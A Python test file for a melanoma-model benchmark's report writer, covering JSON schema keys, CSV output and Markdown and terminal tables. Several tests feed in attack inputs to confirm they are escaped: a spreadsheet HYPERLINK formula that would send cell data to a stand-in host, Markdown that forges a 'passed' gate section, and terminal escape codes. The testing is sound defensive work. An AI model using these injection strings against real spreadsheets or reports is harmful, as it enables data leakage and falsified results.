"""report.json schema stability, the CSV/markdown/terminal renderings, and strict JSON."""

import csv
import dataclasses
import json
import re
import string
from pathlib import Path

import pytest

from melanoma.benchmarks.gate import GateLimits, targets, violations
from melanoma.benchmarks.markdown_text import md_text
from melanoma.benchmarks.report import (
    CSV_COLUMNS,
    SCHEMA_VERSION,
    TABLE_HEADER,
    accuracy_table,
    csv_record,
    make_row,
    markdown_report,
    preemption_notes,
    report_json,
    round_spread,
    stability_table,
    table_cells,
    text_table,
    write_csv,
)
from melanoma.benchmarks.timing import Latency

SCHEMA_DOC = Path(__file__).resolve().parents[2] / "benchmarks" / "REPORT_SCHEMA.md"

# The contract: removing or renaming any of these is a schema_version bump.
TOP_KEYS = {"schema_version", "created_utc", "machine", "versions", "toolkit_source", "data",
            "reference", "config", "artifacts", "targets", "gate", "roc"}  # fmt: skip
ROW_KEYS = {
    "name", "target", "precision", "threads", "runtime_threads", "cpu_per_wall", "status",
    "status_symbol",
    "reasons", "runtime",
    "file", "sha256", "quantization", "export_check", "threshold_name", "threshold", "n_images",
    "auc", "accuracy", "sensitivity", "specificity", "ppv", "f1", "balanced_accuracy", "ci",
    "agreement", "n_disagree", "delta_auc", "delta_accuracy", "max_abs_dprob", "mean_abs_dprob",
    "latency_ms",
    "load_ms", "warmup", "runs", "rounds", "p50_by_round_ms", "throughput_batch", "throughput_ips",
    "size_bytes", "macs",
    "gmacs_per_s",
}  # fmt: skip
ISSUE_ROW_KEYS = {"name", "target", "precision", "threads", "status", "auc", "accuracy",
                  "sensitivity", "specificity", "agreement", "delta_auc", "max_abs_dprob",
                  "latency_ms", "load_ms", "size_bytes", "macs"}  # fmt: skip
MACHINE_KEYS = {"cpu", "arch", "logical_cores", "os", "python", "load_average_1m",
                "torch_matmul_gmacs_per_s"}  # fmt: skip


def test_row_keys_are_stable(rows):
    for row in rows:
        assert set(row) == ROW_KEYS
        assert set(row["latency_ms"]) == {"p50", "p90", "p99", "mean", "min"}
        assert set(row["ci"]) == {"auc", "accuracy", "sensitivity", "specificity", "ppv", "f1",
                                  "balanced_accuracy"}  # fmt: skip
    assert ISSUE_ROW_KEYS <= ROW_KEYS


def test_not_runnable_row_has_every_key_as_null(rows):
    skipped = next(r for r in rows if r["status"] == "not_runnable")
    assert skipped["status_symbol"] == "⏭" and skipped["reasons"]
    assert skipped["auc"] is None and skipped["latency_ms"]["p50"] is None
    assert skipped["size_bytes"] == 300_000 and skipped["macs"] > 0


def test_every_key_is_documented():
    documented = set(re.findall(r"`([a-z_0-9]+)`", SCHEMA_DOC.read_text()))
    missing = (TOP_KEYS | ROW_KEYS | MACHINE_KEYS) - documented
    assert not missing, f"undocumented in REPORT_SCHEMA.md: {sorted(missing)}"
    assert f"schema_version {SCHEMA_VERSION}" in SCHEMA_DOC.read_text()
    # The key table states the value too, and a bump must update it as well as the title.
    assert f"| `schema_version` | int | `{SCHEMA_VERSION}` |" in SCHEMA_DOC.read_text()


def test_top_level_keys(report):
    assert set(report) == TOP_KEYS and report["schema_version"] == SCHEMA_VERSION
    assert set(report["machine"]) == MACHINE_KEYS
    assert report["gate"] == {"limits": {"max_auc_drop": None, "min_agreement": None,
                                         "max_latency_ms": None, "max_accuracy_drop": None,
                                         "require_int8": False, "max_abs_dprob": None},
                              "violations": [], "passed": True}  # fmt: skip
    eager = [r for r in report["artifacts"] if r["target"] == "pytorch"]
    assert [(r["name"], r["precision"], r["threads"]) for r in eager] == [
        ("eager-pytorch", "fp32", 1), ("eager-pytorch", "fp32", 2)]  # fmt: skip
    assert len(report["artifacts"]) == 4 * 2  # one row per artifact and thread count


def test_json_is_strict_and_round_trips(report):
    report["artifacts"][0]["auc"] = float("nan")
    text = report_json(report)
    assert "NaN" not in text
    parsed = json.loads(text)
    assert parsed["artifacts"][0]["auc"] is None
    assert parsed["artifacts"][1] == report["artifacts"][1]


def test_csv_one_line_per_row(report, tmp_path):
    write_csv(report["artifacts"], tmp_path / "r.csv")
    with (tmp_path / "r.csv").open() as handle:
        records = list(csv.DictReader(handle))
    assert list(records[0]) == CSV_COLUMNS and len(records) == len(report["artifacts"])
    int8 = next(r for r in records if r["precision"] == "int8")
    assert float(int8["p50_ms"]) == 0.8 and float(int8["agreement"]) == 0.995
    assert int8["sha256"] == "cd" * 32  # which bytes each row measured
    skipped = next(r for r in records if r["target"] == "coreml")
    assert skipped["reasons"] == "Core ML runtime needs macOS" and skipped["p50_ms"] == ""


def test_a_csv_name_a_spreadsheet_takes_for_a_formula_is_written_as_the_same_path(report, tmp_path):
    """report.csv carried an artifact named '=HYPERLINK(...).onnx' as that formula, as
    predict's CSV did a photo's: written ./=HYPERLINK(...).onnx, the same file relative to
    --artifacts, and text to a spreadsheet. report.json keeps the name as it is."""
    name = '=HYPERLINK("http://x.example/?"&A2,"see").onnx'
    rows = [{**row, "name": name} if row["target"] == "onnx" else row
            for row in report["artifacts"]]  # fmt: skip
    write_csv(rows, tmp_path / "r.csv")
    with (tmp_path / "r.csv").open(newline="") as handle:
        names = [record["name"] for record in csv.DictReader(handle)]
    assert names == [f"./{r['name']}" if r["name"] == name else r["name"] for r in rows]
    assert Path(names[[r["name"] for r in rows].index(name)]) == Path(name)  # the same file


def test_csv_text_a_foreign_manifest_spells_is_never_a_formula(report, tmp_path):
    """A manifest from elsewhere names its precision and thresholds as it likes (export
    --threshold takes the checkpoint's name): report.csv carried '=HYPERLINK(...)' in the
    precision and threshold_name cells, which a spreadsheet ran. Each text cell now starts
    with OWASP's ' there; the numbers, and report.json, are as they were."""
    formula = '=HYPERLINK("http://x.example/?"&A2,"see")'
    starts = {"precision": "+" + formula, "threshold_name": formula, "runtime": "@" + formula,
              "reasons": ["-" + formula, "ok"], "target": "\t" + formula}  # fmt: skip
    rows = [{**row, **starts} for row in report["artifacts"]]
    write_csv(rows, tmp_path / "r.csv")
    with (tmp_path / "r.csv").open(newline="") as handle:
        records = list(csv.DictReader(handle))
    for record in records:
        assert {key: record[key] for key in starts} == {
            "precision": "'+" + formula, "threshold_name": "'" + formula,
            "runtime": "'@" + formula, "reasons": f"'-{formula}; ok", "target": "'\t" + formula,
        }  # fmt: skip
    int8 = next(r for r in records if r["name"] == "m-executorch-int8.pte")
    assert int8["delta_auc"] == "-0.002" and int8["threshold"] == "0.5"  # numbers stay numbers


def test_terminal_and_markdown_tables(report):
    table = text_table(report["artifacts"]).splitlines()
    assert table[0].split()[0] == "artifact" and len(table) == 2 + 8 + 1  # header, rule, rows, note
    assert "⏭ m-coreml-fp32.mlpackage: Core ML runtime needs macOS" in table[-1]
    onnx = next(line for line in table if line.startswith("m-onnx-fp32.onnx"))
    assert "✅" in onnx and "0.500" in onnx
    text = markdown_report(report)
    assert "| eager-pytorch | pytorch | fp32 | 1 | ✅ |" in text
    assert "test cpu" in text and "## Gate" in text and "passed" in text
    table_lines = [line for line in text.splitlines() if line.startswith("|")]
    columns = {len(re.findall(r"(?<!\\)\|", line)) for line in table_lines}
    assert columns == {len(TABLE_HEADER) + 1, 8, 5}  # all tables well-formed (max\|Δp\| escaped)
    # metrics with their CIs, one line per artifact however many thread counts it was timed at
    assert text.count("| m-executorch-int8.pte | 0.850 [0.100, 0.900] |") == 1
    assert "p99 is about the slowest call" not in text  # the default 200 runs
    assert "![ROC](roc.png)" in text
    assert "png" not in markdown_report(report, plots=False)  # --no-plots: no links to nothing
    assert "- decisions: melanoma when P ≥ 0.5000 (the youden threshold); agree%, ΔAUC and " in text
    assert "checkpoint sha256 abababababab..., licence CC-BY-NC-4.0\n" in text


def test_markdown_lists_the_gate_violations_instead_of_passed(report):
    assert markdown_report(report).split("## Gate\n\n")[1].startswith("passed\n")
    limits = GateLimits(max_latency_ms=0.6)
    broken = violations(report["artifacts"], limits)
    assert broken  # every timed row but the fp32 .onnx (0.5 ms) breaks 0.6 ms
    gate = {"limits": limits.as_dict(), "violations": broken, "passed": False}
    gate = markdown_report({**report, "gate": gate}).split("## Gate\n\n")[1]
    # each its own item: lines alone rendered as one paragraph, the violations run together
    assert gate.startswith("".join(f"- {line}\n" for line in broken)) and "passed" not in gate
    assert "- GATE m-executorch-int8.pte 1t: latency_p50_ms 0.8 breaks 0.6\n" in gate


def test_markdown_says_when_p99_is_just_the_slowest_call(report):
    few_runs = dict(report, config=dict(report["config"], runs=20))
    assert "with under 100 runs, p99 is about the slowest call" in markdown_report(few_runs)


def test_preempted_one_thread_rows_are_flagged(report):
    rows = report["artifacts"]
    assert preemption_notes(rows) == []  # the fixture's rows were not timed with CPU accounting
    int8 = next(i for i, r in enumerate(rows) if r["precision"] == "int8" and r["threads"] == 1)
    rows[int8]["cpu_per_wall"] = 0.8996  # at 2 places "0.90", beside the rule "< 0.9"
    for row in rows:
        if row["threads"] == 2:
            row["cpu_per_wall"] = 0.5  # two threads: the caller may wait for pool threads
    notes = preemption_notes(rows)
    assert notes == [
        f"{rows[int8]['name']} (1 thread): CPU/wall 0.899 while timed: "
        "preempted by other work, its latencies are inflated"
    ]
    assert f"- {notes[0]}" in markdown_report(report)
    assert text_table(rows).splitlines()[-1] == notes[0]
    rows[int8 + 1]["cpu_per_wall"] = 0.16  # its 2-thread row, preempted as seen on a busy VM
    assert preemption_notes(rows)[1] == (
        f"{rows[int8]['name']} (2 threads): CPU/wall 0.160 while timed: the calling thread "
        "mostly waited (for a core, or for its pool), so its latencies are likely inflated"
    )


def test_each_rounds_p50_and_the_ratio_within_each_round_are_reported(report):
    text = markdown_report(report)
    assert "runs in 4 rounds" in text  # the config's default
    assert "| m-executorch-int8.pte | 1 | 0.800 / 0.960 | 20% |" in text
    assert "| m-coreml-fp32.mlpackage |" not in text.split("## Latency by round")[1]  # not timed
    assert "- int8 .pte p50 / eager fp32 p50, 1 thread 0.2 <= 0.25: met, rounds 0.2-0.2\n" in text


def test_one_round_has_no_spread_to_show(make_row_for):
    """A spread needs two rounds' p50s (and a fastest one above 0 to divide by)."""
    row = make_row_for()
    assert round_spread(row) == pytest.approx(0.2)  # the fixture's (1.0, 1.2)
    row["p50_by_round_ms"] = [0.8]
    assert round_spread(row) is None
    assert "| m.pte | 1 | 0.800 | - |" in stability_table([row])
    assert round_spread(dict(row, p50_by_round_ms=[0.0, 0.8])) is None


def test_each_figure_lands_in_its_own_column_and_unit(make_subject):
    """Every figure distinct (the shared fixture repeats values: mean = p50, one CI for all),
    so a swapped column, a wrong unit or a figure taken from its neighbour shows."""
    ci = {"auc": [0.81, 0.89], "accuracy": [0.76, 0.84], "sensitivity": [0.86, 0.94],
          "specificity": [0.65, 0.75], "precision": [0.7, 0.8], "f1": [0.78, 0.86],
          "balanced_accuracy": [0.72, 0.82]}  # fmt: skip
    artifact = make_subject(agreement=0.995, delta_auc=-0.002, delta_accuracy=-0.005,
                            max_abs_dprob=0.03, name="m-executorch-int8.pte")  # fmt: skip
    artifact.info.update(ci=ci, balanced_accuracy=0.77)
    timed = Latency(
        load_ms=5.5, p50_ms=0.8, p90_ms=1.2, p99_ms=1.6, mean_ms=0.9, min_ms=0.5, runs=200,
        warmup=20, throughput_ips=1500.0, p50_by_round_ms=(0.8, 0.85),
    )  # fmt: skip
    row = make_row(artifact, 2, timed, 38_633_600)
    assert (row["ppv"], row["f1"], row["balanced_accuracy"]) == (0.75, 0.82, 0.77)
    assert row["ci"]["ppv"] == [0.7, 0.8] and row["rounds"] == 2
    assert row["gmacs_per_s"] == 38_633_600 / 0.8e-3 / 1e9  # from p50, not the mean
    assert table_cells(row) == [
        "m-executorch-int8.pte",
        "executorch",
        "int8",
        "2",
        "✅",
        "0.850",
        "0.800",
        "99.5",
        "-0.0020",
        "3.0e-02",
        "0.800",
        "1.200",
        "1.600",
        "5.5",
        "293",
        "48.29",
    ]  # size in KB of 1024 bytes: 300,000 bytes
    flat = csv_record(row)
    assert (flat["auc_ci_low"], flat["auc_ci_high"]) == (0.81, 0.89)
    assert [flat[f"{k}_ms"] for k in ("p50", "p90", "p99", "mean")] == [0.8, 1.2, 1.6, 0.9]
    timing = ("load_ms", "runs", "rounds", "throughput_ips", "gmacs_per_s")
    assert [flat[k] for k in timing] == [5.5, 200, 2, 1500.0, row["gmacs_per_s"]]  # in the CSV
    slower = make_row(artifact, 1, dataclasses.replace(timed, throughput_ips=1000.0), 1)
    unbatched = make_row(artifact, 1, dataclasses.replace(timed, throughput_ips=None), 1)
    assert (row["throughput_batch"], unbatched["throughput_batch"]) == (32, None)  # not timed
    assert accuracy_table([slower, row]).splitlines()[-1] == (
        "| m-executorch-int8.pte | 0.850 [0.810, 0.890] | 0.800 [0.760, 0.840] | "
        "0.900 [0.860, 0.940] | 0.700 [0.650, 0.750] | 3/600 | 1500 |"
    )  # the best thread count's throughput


def test_a_failed_row_shows_its_symbol_and_reasons(make_subject):
    failed = make_subject(status="failed", reasons=["agreement 0.500 < 0.9"], agreement=0.5)
    row = make_row(failed, 1, None, 1)
    assert table_cells(row)[4] == "❎" and row["status_symbol"] == "❎"
    assert text_table([row]).splitlines()[-1] == "❎ m.pte: agreement 0.500 < 0.9"


def test_an_artifact_name_cannot_add_lines_or_terminal_escapes_to_a_report(report):
    """An artifact renamed 'x\\n\\n## Gate\\n\\npassed\\n\\n<!--\\x1b[2K.onnx' (its manifest's
    sha256 covers only its bytes) wrote a '## Gate / passed' of its own into report.md, then
    opened a comment hiding the rest, the real gate included; a terminal ran its escape."""
    name = "x\n\n## Gate\n\npassed\n\n<!--\x1b[2K.onnx"
    rows = [{**row, "name": name} if row["name"] == "m-onnx-fp32.onnx" else row
            for row in report["artifacts"]]  # fmt: skip
    rows[-1] = {**rows[-1], "name": name, "reasons": ["manifest says\nok"], "cpu_per_wall": 0.1}
    limits = GateLimits(max_latency_ms=0.4)
    gate = {"limits": limits.as_dict(), "violations": violations(rows, limits), "passed": False}
    text = markdown_report({**report, "artifacts": rows, "gate": gate})
    headings = [line for line in text.splitlines() if line.startswith("#")]
    assert headings == [line for line in markdown_report(report).splitlines() if line[:1] == "#"]
    # as written, each backslash and # escaped: rendered, it reads as the terminal shows it
    assert r"GATE x\\n\\n\#\# Gate\\n\\npassed" in text.split("## Gate\n\n")[1]
    assert "<!--" not in [line[:4] for line in text.splitlines()]
    shown = text_table(rows)
    assert "\x1b" not in text + shown
    assert "x\\n\\n## Gate\\n\\npassed\\n\\n<!--\\x1b[2K.onnx" in shown
    assert len(shown.splitlines()) == len(text_table(report["artifacts"]).splitlines()) + 2


def markdown_cells(line: str) -> list[str]:
    """A Markdown table row's cells as a renderer reads them: a backslash escapes the
    punctuation after it (CommonMark), and only an unescaped | ends a cell."""
    cells, cell, chars = [], "", iter(line.strip().removeprefix("|").removesuffix("|"))
    for char in chars:
        if char == "\\":
            after = next(chars, "")
            cell += after if after and after in string.punctuation else char + after
        elif char == "|":
            cells, cell = [*cells, cell.strip()], ""
        else:
            cell += char
    return [*cells, cell.strip()]


def test_a_backslash_before_a_bar_in_a_name_stays_in_its_markdown_cell(report):
    r"""An artifact named 'a\|b.onnx' was written 'a\\|b.onnx' into report.md: the name's
    backslash escaped the one added before |, which then split the row into one cell more
    than the header has, shifting every figure after it."""
    name = "a\\|b\\\\|c\\x.onnx"
    rows = [{**row, "name": name} if row["name"] == "m-onnx-fp32.onnx" else row
            for row in report["artifacts"]]  # fmt: skip
    lines = markdown_report({**report, "artifacts": rows}).splitlines()
    before = markdown_report(report).splitlines()  # the same lines, with the plain name
    assert len(lines) == len(before)
    table = [(markdown_cells(a), markdown_cells(b)) for a, b in zip(lines, before, strict=True)
             if a.startswith("| a\\")]  # fmt: skip
    assert len(table) == 5  # the main and by-round tables at 1 and 2 threads, accuracy once
    assert all(len(cells) == len(plain) and cells[0] == name for cells, plain in table)
    assert all(cells[1:] == plain[1:] for cells, plain in table)  # each figure in its column


def test_a_threshold_name_ending_in_line_breaks_keeps_the_accuracy_heading_whole(report):
    """float() reads 'sensitivity_0.90\\r\\n', so a checkpoint's metadata.json that names its
    threshold so passes every check and its manifests carry the name: report.md's accuracy
    heading ended there, and ' threshold)' stood on a line of its own."""
    name = "sensitivity_0.90\r\n"
    text = markdown_report({**report, "config": {**report["config"], "threshold_name": name}})
    assert len(text.splitlines()) == len(markdown_report(report).splitlines())
    assert r"CIs (sensitivity\_0.90\\r\\n threshold)" + "\n" in text


def test_the_reference_checkpoints_licence_cannot_add_lines_to_a_report(report):
    """A colleague's checkpoint (--reference DIR) with a licence of 'CC-BY-4.0\\n\\n## Gate
    \\n\\npassed' in its metadata.json (any non-blank string reads) wrote a gate of its own
    into report.md's setup bullets; melanoma-export escapes that licence, the bench did not."""
    licence = "CC-BY-4.0\n\n## Gate\n\npassed\x1b[2K"
    text = markdown_report({**report, "reference": {**report["reference"], "license": licence}})
    headings = [line for line in text.splitlines() if line.startswith("#")]
    assert headings == [line for line in markdown_report(report).splitlines() if line[:1] == "#"]
    assert r"licence CC-BY-4.0\\n\\n\#\# Gate\\n\\npassed\\x1b\[2K" in text


def test_names_outside_the_tables_keep_their_markdown_characters_as_written(report):
    """Only table cells were escaped: an artifact named '*x*_[a](https://e.example)<b>.pte'
    rendered as emphasis, a link and HTML in the notes, the gate and the targets, and a
    threshold, licence or data path so named did the same in the heading and the bullets."""
    name = "*x*_`y`_[a](https://e.example)<b>&amp;~s~$z$#.pte"
    escaped = r"\*x\*\_\`y\`\_\[a\](https://e.example)\<b\>\&amp;\~s\~\$z\$\#.pte"
    assert md_text(name) == escaped and md_text("a\\b\n") == r"a\\b\\n"
    pte = "m-executorch-int8.pte"
    rows = [{**row, "name": name} if row["name"] == pte else row for row in report["artifacts"]]
    first = next(i for i, row in enumerate(rows) if row["name"] == name)
    rows[first] = {**rows[first], "reasons": [f"manifest names {name}"], "cpu_per_wall": 0.5}
    threshold, licence = "youden_<i>", "CC-BY-4.0 [terms](https://e.example)"
    limits = GateLimits(max_latency_ms=0.6)
    text = markdown_report({
        **report, "artifacts": rows, "targets": targets(rows),
        "gate": {"limits": limits.as_dict(), "violations": violations(rows, limits)},
        "config": {**report["config"], "threshold_name": threshold},
        "reference": {**report["reference"], "license": licence},
        "data": {**report["data"], "source": "/data/my_*set*"},
    })  # fmt: skip
    prose = [line for line in text.splitlines() if not line.startswith("|")]
    assert not [line for line in prose if name in line or threshold in line or licence in line]
    assert f"- ✅ {escaped}: manifest names {escaped}" in prose  # the status note
    assert any(line.startswith(f"- {escaped} (1 thread): CPU/wall 0.500") for line in prose)
    gate, targets_text = text.split("## Gate\n\n")[1], text.split("## Targets\n\n")[1]
    assert gate.startswith(f"- GATE {escaped} 1t: latency_p50_ms")  # names alone escaped
    assert f"rounds 0.2-0.2; {escaped} timed while preempted" in targets_text
    assert r"CIs (youden\_\<i\> threshold)" in text and r"(the youden\_\<i\> threshold)" in text
    assert r"licence CC-BY-4.0 \[terms\](https://e.example)" in text
    assert r"test split of /data/my\_\*set\*, n=" in text


def test_a_name_in_a_table_cell_keeps_its_markdown_characters_as_written(report):
    """The cells escaped only backslashes and bars: a name '*x*_[a](https://e.example)<b>'
    stayed in its cell but rendered there as emphasis, a link and HTML."""
    name = "*x*_`y`_[a](https://e.example)<b>&amp;~s~$z$#.onnx"
    rows = [{**row, "name": name} if row["name"] == "m-onnx-fp32.onnx" else row
            for row in report["artifacts"]]  # fmt: skip
    lines = markdown_report({**report, "artifacts": rows}).splitlines()
    cells = [line for line in lines if line.startswith(f"| {md_text(name)} | ")]
    assert len(cells) == 5  # the main and by-round tables at 1 and 2 threads, accuracy once
    assert all(markdown_cells(line)[0] == name for line in cells)  # as a renderer reads it
    assert not [line for line in lines if name in line]


def test_the_tables_escape_what_was_read_and_leave_the_reports_own_figures_as_written(report):
    """Every cell went through md_text, so each CI read '0.850 \\[0.100, 0.900\\]' in the raw
    file, though a renderer parses each cell on its own and those brackets link nothing. Only
    the cells read from files and manifests (name, target, precision) need the escapes."""
    name, precision = "*x*_[a](https://e.example).onnx", "<b>int8</b>"
    rows = [{**row, "name": name, "precision": precision} if row["name"] == "m-onnx-fp32.onnx"
            else row for row in report["artifacts"]]  # fmt: skip
    tables = [line for line in markdown_report({**report, "artifacts": rows}).splitlines()
              if line.startswith("|")]  # fmt: skip
    renamed = [markdown_cells(line) for line in tables if line.startswith(f"| {md_text(name)} |")]
    assert len(renamed) == 5 and all(cells[0] == name for cells in renamed)  # as written
    assert renamed[0][2] == precision
    own = [line.replace(md_text(name), "").replace(md_text(precision), "") for line in tables]
    assert [line for line in own if "\\" in line.replace("\\|", "")] == []  # only bars
    assert any(line.startswith("| m-executorch-int8.pte | 0.850 [0.100, 0.900] |") for line in own)


@pytest.mark.parametrize("name", ["- x.onnx", "+ x.onnx", "1. x.onnx", "2024) x.onnx"])
def test_a_name_that_begins_like_a_list_marker_stays_in_its_note_as_written(report, name):
    """A preempted row's note begins with its name, right after the note's own '- ': an
    artifact named '- x.onnx' rendered as a list inside the note ('- - x.onnx (1 thread)'),
    its '- ' gone, and '2024) x.onnx' as a list numbered '2024.'."""
    pte = "m-executorch-int8.pte"
    rows = [{**row, "name": name, "cpu_per_wall": 0.5} if row["name"] == pte else row
            for row in report["artifacts"]]  # fmt: skip
    notes = [
        line
        for line in markdown_report({**report, "artifacts": rows}).splitlines()
        if line.endswith("while timed: preempted by other work, its latencies are inflated")
    ]
    marker, rest = name.split(" ", 1)
    escaped = f"{marker[:-1]}\\{marker[-1]} {rest}"  # a backslash before its last character
    assert notes and all(
        line.startswith(f"- {escaped} (1 thread): CPU/wall 0.500") for line in notes
    )
    assert md_text(f"a {name}") == f"a {name}" and md_text("-x.onnx") == "-x.onnx"  # mid-line


def test_a_failed_rows_gate_item_escapes_the_reasons_it_quotes(report):
    """The gate's own words go unescaped in report.md, but a failed row's reasons quote its
    manifest, and so are escaped as its name is."""
    failed = {"status": "failed", "reasons": ["manifest says <b>*ok*</b>"]}
    rows = [{**row, **failed} if row["name"] == "m-onnx-fp32.onnx" else row
            for row in report["artifacts"]]  # fmt: skip
    limits = GateLimits()
    gate = {"limits": limits.as_dict(), "violations": violations(rows, limits), "passed": False}
    text = markdown_report({**report, "artifacts": rows, "gate": gate})
    quoted = r"(manifest says \<b\>\*ok\*\</b\>)"
    assert f"- GATE m-onnx-fp32.onnx: status failed breaks verified {quoted}\n" in text


def test_the_gate_in_markdown_is_the_reports_own_even_if_its_limits_would_not_make_it(report):
    """report.md writes the gate from the rows and limits, escaping only the names; a report
    whose violations those do not make (one assembled by a caller) showed 'passed' there
    while report.json listed a violation. Its own lines are shown then, wholly escaped."""
    one = "GATE m-executorch-int8.pte: auc_drop 0.002 breaks 0.001"
    failed = {**report, "gate": {**report["gate"], "violations": [one], "passed": False}}
    gate = markdown_report(failed).split("## Gate\n\n")[1]
    assert gate.startswith(f"- {md_text(one)}\n") and "passed" not in gate


def test_the_setup_bullets_keep_the_machines_and_versions_markdown_characters_as_written(report):
    """The machine's and the versions' strings (a CPU model, an OS or a local build's version
    such as 2.9.0+git_*abc*) went into the bullets unescaped, where the data's and the
    reference's did not: emphasis there hid characters of what was measured on."""
    machine = {**report["machine"], "cpu": "Xeon_*v4*", "os": "Linux-6.1_<b>", "python": "3.11_1"}
    versions = {**report["versions"], "torch": "2.9.0+git_*abc*"}
    created = "2026-12-07T16:00:00Z_[x]"
    text = markdown_report({**report, "machine": machine, "versions": versions,
                            "created_utc": created})  # fmt: skip
    assert r"- created: 2026-12-07T16:00:00Z\_\[x\]" in text
    assert r"- machine: Xeon\_\*v4\* (" in text
    assert r"cores, Linux-6.1\_\<b\>, Python 3.11\_1, load average" in text
    assert r"torch 2.9.0+git\_\*abc\*" in text


def test_the_decision_rule_without_an_eager_threshold_keeps_its_names_markdown_as_written(
    report,
):
    """With no eager row (or none with a threshold), the decisions bullet names the threshold
    alone: that branch wrote 'youden_<i>' unescaped, where the other escaped it."""
    rows = [row for row in report["artifacts"] if row["target"] != "pytorch"]
    config = {**report["config"], "threshold_name": "youden_<i>"}
    text = markdown_report({**report, "artifacts": rows, "config": config})
    assert r"- decisions: melanoma at the youden\_\<i\> threshold; agree%" in text
